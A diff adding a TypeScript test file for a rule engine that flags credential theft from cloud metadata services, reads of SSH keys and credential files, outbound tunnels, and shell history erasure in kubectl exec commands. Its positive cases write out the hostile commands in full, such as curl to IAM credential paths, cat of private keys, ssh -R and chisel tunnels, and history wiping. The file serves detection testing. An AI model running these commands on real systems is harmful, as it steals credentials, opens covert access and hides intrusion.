@@ -1,0 +1,133 @@
+/**
+ * Credential theft and tunnels through kubectl exec, through the shipped rule set and the real
+ * engine: the cloud metadata service's credential paths (MLS-RAY-018), credential files and SSH
+ * private keys (MLS-RAY-010), tunnels that let an outside host reach in (MLS-RAY-019), shell
+ * history erased (MLS-RAY-020). The neighbouring everyday commands (an instance-type lookup, a
+ * public key, a local forward, a tunnel tool named but not run, the history read) raise none of them.
+ */
+import { describe, expect, it } from 'vitest';
+import { execRuleIds, SA } from './exec-events.test-support.js';
+
+const sh = (line: string): string[] => ['sh', '-c', line];
+const IMDS = 'http://169.254.169.254';
+
+describe('MLS-RAY-018: cloud credentials from the instance metadata service', () => {
+  it('alerts on each cloud credential path, whatever the host is spelt as, for a person and a service account', () => {
+    for (const argv of [
+      sh(`curl -s ${IMDS}/latest/meta-data/iam/security-credentials/`),
+      sh(`TOKEN=$(curl -sX PUT ${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60"); curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ${IMDS}/latest/meta-data/iam/security-credentials/ml-node-role`),
+      sh('curl -s http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/'),
+      sh(`p=security-credentials; curl ${IMDS}/latest/meta-data/iam/$p/`),
+      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'),
+      sh(`curl -s -H Metadata:true "${IMDS}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"`),
+      sh('curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'),
+      sh('curl -s -H "Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN" http://169.254.170.23/v1/credentials'),
+      sh('curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/'),
+      ['python3', '-c', `import urllib.request as u; print(u.urlopen('${IMDS}/latest/meta-data/iam/security-credentials/').read())`],
+      ['wget', '-qO-', `${IMDS}/latest/meta-data/iam/security-credentials/role`],
+    ]) {
+      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-018');
+      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-RAY-018');
+    }
+  });
+
+  it('leaves the metadata a workload reads about its instance', () => {
+    for (const argv of [
+      sh(`curl -s ${IMDS}/latest/meta-data/instance-type`),
+      sh(`curl -s ${IMDS}/latest/meta-data/placement/availability-zone`),
+      sh('curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/zone'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-018');
+  });
+});
+
+describe('MLS-RAY-010: credential files and SSH private keys', () => {
+  it('alerts on a private key, a glob over the keys, a host key and the credential files of git, Docker, pip, Vault, gcloud, Azure and the Hugging Face CLI', () => {
+    for (const argv of [
+      sh('cat /root/.ssh/id_rsa'),
+      sh('cat ~/.ssh/id_ed25519 | base64 -w0'),
+      sh('tar czf /tmp/k.tgz ~/.ssh/id_*'),
+      sh('cat ~/.ssh/*'),
+      sh('cat /etc/ssh/ssh_host_ed25519_key'),
+      sh('cat ~/.git-credentials'),
+      sh('cat ~/.netrc'),
+      sh('cat ~/.docker/config.json'),
+      sh('cat ~/.pypirc'),
+      sh('cat ~/.vault-token'),
+      sh('cat ~/.config/gcloud/application_default_credentials.json'),
+      sh('cp ~/.azure/msal_token_cache.json /tmp/'),
+      sh('cat ~/.cache/huggingface/token'),
+      ['python3', '-c', "print(open('/root/.ssh/id_ecdsa').read())"],
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
+  });
+
+  it('leaves public keys, known hosts and other files in ~/.ssh', () => {
+    for (const argv of [
+      sh('ssh-keygen -lf ~/.ssh/id_rsa.pub'),
+      sh('cat ~/.ssh/id_ed25519.pub'),
+      sh('ls ~/.ssh/*.pub'),
+      sh('cat ~/.ssh/known_hosts | wc -l'),
+      sh('ssh -i ~/.ssh/deploy_key git@github.com'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
+  });
+});
+
+describe('MLS-RAY-019: tunnels out of the cluster', () => {
+  it('alerts on tunnel tools run, cloudflared tunnel and ssh remote, dynamic and tun forwards', () => {
+    for (const argv of [
+      sh('ssh -NR 9000:localhost:8265 u@203.0.113.9'),
+      sh('ssh -fND 1080 u@203.0.113.9'),
+      sh('ssh -o RemoteForward=9000:localhost:8265 u@203.0.113.9 -N'),
+      sh('ssh -oDynamicForward=1080 u@203.0.113.9'),
+      sh('ssh -w 0:0 root@203.0.113.9'),
+      sh('autossh -M 0 -R 9000:localhost:22 u@203.0.113.9'),
+      sh('./chisel client 203.0.113.9:8080 R:socks'),
+      sh('ngrok http 8265'),
+      sh('cloudflared tunnel --url http://localhost:8265'),
+      sh('/tmp/frpc -c /tmp/frpc.toml'),
+      sh('sudo -u nobody /tmp/.x/gost -L socks5://:1080'),
+      sh('nohup ./bore local 8265 --to bore.pub &'),
+      sh('iodine -f -P pw t.example.com'),
+      ['sshuttle', '-r', 'u@203.0.113.9', '0/0'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-019');
+  });
+
+  it('leaves a local forward, ssh options of the same letters in lower case and tunnel tools only named', () => {
+    for (const argv of [
+      sh('ssh -L 5432:db.internal:5432 u@bastion -N'),
+      sh('ssh -r u@bastion true'),
+      sh('sudo apt-get install -y autossh'),
+      sh('pip download gost'),
+      sh('apt-get install -y ngrok bore'),
+      sh('echo chisel; which cloudflared'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-019');
+  });
+});
+
+describe('MLS-RAY-020: shell history erased or turned off', () => {
+  it('alerts on history cleared, turned off, or its file removed, emptied, shredded or linked to /dev/null', () => {
+    for (const argv of [
+      sh('history -c && rm -f ~/.bash_history'),
+      sh('unset HISTFILE; id'),
+      sh('export HISTFILE=/dev/null'),
+      sh('HISTSIZE=0 bash'),
+      sh('set +o history'),
+      sh('> ~/.bash_history'),
+      sh('cat /dev/null > /root/.bash_history'),
+      sh('ln -sf /dev/null ~/.bash_history'),
+      sh('shred -u ~/.zsh_history'),
+      sh('truncate -s 0 /root/.bash_history'),
+      sh('history -d 5'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-020');
+  });
+
+  it('leaves the history read, listed or appended to, and a larger history set', () => {
+    for (const argv of [
+      sh('cat ~/.bash_history | tail'),
+      sh('history | tail -20'),
+      sh('grep kubectl ~/.bash_history'),
+      sh('echo "export HISTSIZE=10000" >> ~/.bashrc'),
+      sh("echo 'ls' >> ~/.bash_history"),
+      sh('wc -l ~/.bash_history'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-020');
+  });
+});
